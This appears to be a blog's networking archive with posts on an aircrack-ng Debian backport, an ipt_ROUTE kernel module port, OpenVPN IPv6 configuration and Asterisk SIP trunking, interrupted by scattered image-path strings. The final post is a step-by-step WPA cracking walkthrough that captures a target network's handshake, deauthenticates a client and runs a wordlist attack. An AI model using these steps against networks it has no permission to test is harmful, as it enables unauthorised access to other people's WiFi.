Category Archives: Networking

Backport of Aircrack-ng for Debian Wheezy

I have created a backport of aircrack-ng based on the version in Jessie/Testing. This may be installed with the command:
dpkg -i aircrack-ng_1.1-6~bpo70+1_amd64.deb
(remove the package with command: dpkg -r aircrack-ng)
download here

This package is now available in Debian wheezy-backports.

Back in March 2012 I built the latest svn version from source, available here.
I have included the necessary scripts and binary files in the ‘bin/’directory. Copy these to somewhere like: /usr/local/sbin/ipt_ROUTE Netfilter module ported to Linux 2.6.31

The ipt_ROUTE module became depreciated in an earlier version of Linux 2.6 – however I needed it so ported it to Linux Kernel version 2.6.31.

Disclaimer: wherever possible iproute2 should be used to achieve the desired effect.

The sources include the Kernel module and extensions to iptables.

This module and iptables extension create a new target which may be used on the mangle table.
Target usage: -j ROUTE <option>
--oif ifname - Route packet through `ifname' network interface
--iif ifname - Change packet's incoming interface to `ifname'
--gw ip - Route packet via this gateway `ip'
--continue - Route packet and continue traversing the rules. (Not valid with --iif or --tee)
--tee - Duplicate packet and route the duplicate, continue traversing the original packet. (Not valid with --iif or --continue)

I have tested the ported module on the PREROUTING and INPUT chains of the mangle table.

I use this module to route packets that have a destination IP address which matches a local IP address, out of an ethernet interface (using --oif option). These packets would normally be directed to the local system.

OpenVPN – IPv6 with tun device

Note: IPv6 is not supported using OpenVPN on Debian Squeeze (stable). The version used by Debian Wheezy (testing) supports IPv6.

Network setup:
- - Local IPv4 network
- 2001:412:abcd::/48 - Local IPv6 network
- -Tunnel IPv4 network
- 2001:412:abcd:2::/64 - Tunnel IPv6 network

I have included only the sections of config files which need ammending to enable IPv6 over OpenVPN.

Client Config
# Use the same setting as you are using on
# the server.
# On most systems, the VPN will not function
# unless you partially or fully disable
# the firewall for the TUN/TAP interface.
dev tun
# enable ipv6

Server Config
# "dev tun" will create a routed IP tunnel,# "dev tap" will create an ethernet tunnel.
# Use "dev tap0" if you are ethernet bridging
# and have precreated a tap0 virtual interface
# and bridged it with your ethernet interface.
# If you want to control access policies
# over the VPN, you must create firewall
# rules for the the TUN/TAP interface.
# On non-Windows systems, you can give
# an explicit unit number, such as tun0.
# On Windows, use"dev-node" for this.
# On most systems, the VPN will not function
# unless you partially or fully disable
# the firewall for the TUN/TAP interface.
dev tun0
# Enable TUN IPv6 module

# Configure server mode and supply a VPN subnet
# for OpenVPN to draw client addresses from.
# The server will take for itself,
# the rest will be made available to clients.
# Each client will be able to reach the server
# on Comment this line out if you are
# ethernet bridging. See the man page for more info.
server-ipv6 2001:412:abcd:2::/64

# Push routes to the client to allow it# to reach other private subnets behind
# the server. Remember that these
# private subnets will also need
# to know to route the OpenVPN client
# address pool (
# back to the OpenVPN server.
push "route"
push "route-ipv6 2001:412:abcd::/48

# If enabled, this directive will configure
# all clients to redirect their default
# network gateway through the VPN, causing
# all IP traffic such as web browsing and
# and DNS lookups to go through the VPN
# (The OpenVPN server machine may need to NAT
# or bridge the TUN/TAP interface to the internet
# in order for this to work properly).
;push "redirect-gateway def1 bypass-dhcp"

# Enable to make openvpn the default route for ipv6 connectivity?
;push "route-ipv6 2000::/3"

SIP Trunking between Asterisk 1.4 and Cisco CUBEAs far as I can tell Cisco CUBE only supports unauthenticated SIP trunks, which isn’t too much trouble for Asterisk.

In sip.conf:
(change ‘trunks-inbound’ to the necessary context)

In extensions.conf:
(First line is optional, and simply adds a prefix to the outgoing caller ID)

The “insecure=invite,port” is the critical part, as the source portfrom the Cisco CUBE appears to be dynamic unlike a tradition SIP trunk.

Brute Forcing WPA WiFi Encryption

WPA and WPA2 provide good WiFi security which is mainly susceptible to brute force attacks. Here is how such a brute force attack may be carried out.
Using Debian Wheezy (testing) and an Intel Corporation Centrino Wireless-N 1000 card:

  1. Stop Network Manager: /etc/init.d/network-manager stop
  2. Enter monitor mode: airmon-ng start wlan03. Find nearby networks: airodump-ng mon0
  4. Identify the target BSSID and Channel number (-c optionbelow)
  5. Start packet capture and leave running: airodump-ng -c 6 –bssid 00:11:22:33:44:55 -w capturefile mon0
  6. Leave packet capture running until “WPA Handshake” is seen (displayed in the top-right of airodump-ng
  7. Or attempt to force a WPA Handshake by deauthenticating a client station: aireplay--deauth 1 -a 00:11:22:33:44:55 -c 55:55:55:55:55:55--ignore-negative-one mon0 (where -c is the MAC address of one of the stations displayed in airodump-ng)
  8. Apply brute force: aircrack-ng -w password.lst capturefile.cap9. The password.lst is included in the‘test/’ directoryof the aircrack-ng source. Many others are availablefor download
  10. Stop monitor mode: airmon-ng stop mon0